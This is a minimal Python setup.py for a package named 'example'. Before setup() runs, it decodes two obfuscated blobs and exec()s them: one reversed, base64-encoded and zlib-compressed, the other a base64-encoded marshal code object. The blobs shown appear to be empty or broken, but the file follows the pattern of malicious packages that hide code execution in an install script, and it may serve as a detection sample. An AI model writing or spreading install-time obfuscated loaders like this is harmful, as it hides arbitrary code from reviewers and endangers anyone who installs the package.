import marshal, zlib, base64
from setuptools import setup
_ = lambda __ : zlib.decompress(base64.b64decode(__[::-1]))
exec((_)(b'==gC0wJe'))
exec(marshal.loads(base64.b64decode('4wAAAAAAAAAAAAAAAAAAAAABAAAAQAAAAHMEAAAAZABTACkBTqkAcgEAAAByAQAAAHIBAAAA')))
setup(name='example', version='1.0')
